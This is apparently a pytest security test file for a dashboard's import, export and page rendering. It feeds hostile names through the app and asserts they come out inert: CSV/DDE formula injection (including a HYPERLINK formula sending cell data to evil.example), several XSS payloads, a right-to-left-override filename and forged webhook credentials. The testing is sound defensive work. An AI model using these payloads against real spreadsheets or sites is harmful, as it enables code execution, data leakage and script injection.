"""Names that are formulas, scripts, marks that turn text around, and lines: imported, then seen.

A name is text wherever it comes out: on a page, in a CSV file, in a workbook.
"""

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from urllib.parse import quote
from xml.etree import ElementTree

import pytest
from playwright.sync_api import Browser, expect

from api.csv_files import FORMULA_STARTS, NEGATIVE_NUMBER
from loadtests.chromium import launched
from tests.attacks.asking import ask
from tests.e2e.conftest import chromium_path
from tests.faults.process import Service

NAMES = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\uff1d1+1",
    "<script>window.owned=1</script>",
    "<img src=x onerror=window.owned=2>",
    "</script><svg onload=window.owned=3>",
    "javascript:window.owned=4",
    "{{constructor.constructor('window.owned=5')()}}",
    "\u202egnp.exe\u200f",
    "two\nlines, \"quoted\" & 'so'",
]
CSV = {"Content-Type": "text/csv"}
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with launched(chromium_path()) as opened:
        yield opened


def table(header: str, rows: list[list[str]]) -> bytes:
    written = io.StringIO(newline="")
    csv.writer(written).writerows([header.split(","), *rows])
    return written.getvalue().encode()


def import_names(service: Service) -> None:
    day = f"{datetime.now(UTC) - timedelta(days=40):%Y-%m-%d}"
    customers = [[name, name, name, name, name] for name in NAMES]
    orders = [[name, name, day, day, "-5.5", "-1", "one_off", name, name, name] for name in NAMES]
    for kind, body in (
        ("customers", table("customer_id,name,industry,segment,region", customers)),
        (
            "orders",
            table(
                "order_id,customer_id,booked_on,recognized_on,amount,profit,type,"
                "product,segment,region",
                orders,
            ),
        ),
    ):
        path = f"/api/imports/{kind}?filename={quote(NAMES[0], safe='')}"
        status, _, content = ask(service, "POST", path, body, CSV)
        assert status == 200, content


def test_names_are_text_in_spreadsheets_and_negative_numbers_are_numbers(
    any_service: Service,
) -> None:
    import_names(any_service)
    for path in ("/api/kpis/revenue/rows", "/api/export", "/api/audit"):
        status, _, content = ask(any_service, "GET", f"{path}.csv")
        assert status == 200
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        for cell in (cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)):
            assert NEGATIVE_NUMBER.fullmatch(cell)
        if path == "/api/kpis/revenue/rows":
            cells = {cell for row in rows for cell in row}
            assert {name if name[0] not in "=+-@\uff1d" else f"'{name}" for name in NAMES} <= cells
            assert -5.5 in {float(cell) for cell in cells if NEGATIVE_NUMBER.fullmatch(cell)}
    texts, numbers = cells_of_workbook(any_service, "/api/kpis/revenue/rows.xlsx")
    assert {*NAMES} <= texts  # as they are: a workbook says of each cell that it is text
    assert -5.5 in numbers


def cells_of_workbook(service: Service, path: str) -> tuple[set[str], set[float]]:
    status, _, content = ask(service, "GET", path)
    assert status == 200
    texts, numbers = set(), set()
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        names = [name for name in book.namelist() if re.match(r"xl/worksheets/sheet", name)]
        assert not [name for name in book.namelist() if "external" in name or "vba" in name]
        for name in names:
            sheet = ElementTree.fromstring(book.read(name))
            assert sheet.findall(f".//{SHEET}f") == []
            assert sheet.findall(f".//{SHEET}hyperlink") == []
            for cell in sheet.iter(f"{SHEET}c"):
                if cell.get("t") == "inlineStr":
                    texts.add("".join(cell.itertext()))
                elif cell.get("t") is None and (value := cell.findtext(f"{SHEET}v")):
                    numbers.add(float(value))
    return texts, numbers


@pytest.mark.parametrize("by", ["product", "customer", "region"])
def test_names_are_text_on_a_page(any_service: Service, browser: Browser, by: str) -> None:
    import_names(any_service)
    context = browser.new_context(extra_http_headers={**any_service.headers})
    page = context.new_page()
    noticed: list[str] = []
    page.on("dialog", lambda dialog: noticed.append(dialog.message))
    page.on("pageerror", lambda error: noticed.append(str(error)))
    page.on("request", lambda sent: noticed.append(sent.url) if "evil" in sent.url else None)
    page.on("console", lambda said: noticed.append(said.text) if said.type == "error" else None)
    try:
        page.goto(f"http://127.0.0.1:{any_service.port}/sales/kpis/revenue?by={by}")
        for name in NAMES:
            shown = " ".join(name.split())
            expect(page.locator("main")).to_contain_text(shown, use_inner_text=False)
        assert page.evaluate("window.owned") is None
        assert page.locator("main script, main img[onerror], main svg[onload]").count() == 0
        assert page.locator("a[href^='javascript:']").count() == 0
    finally:
        context.close()
    assert noticed == []


def test_a_forged_webhook_is_nobodys(guarded_service: Service) -> None:
    alert = {"status": "firing", "labels": {"alertname": "Forged"}, "fingerprint": "f0"}
    body = json.dumps({"version": "4", "alerts": [alert]}).encode()
    before = ask(guarded_service, "GET", "/api/alerts")[2]
    for headers in (
        {"Authorization": ""},
        {"Authorization": "Bearer execdash_" + "x" * 43},
        {"Authorization": "Basic YWRtaW46YWRtaW4="},
        {"Authorization": "", "Cookie": "execdash=" + "x" * 43},
        {"Origin": "https://evil.example"},
        {"Sec-Fetch-Site": "cross-site"},
    ):
        sent = {"Content-Type": "application/json", **headers}
        assert ask(guarded_service, "POST", "/api/alerts/webhook", body, sent)[0] in {401, 403}
    now = json.loads(ask(guarded_service, "GET", "/api/alerts")[2])["alerts"]
    assert now == json.loads(before)["alerts"]
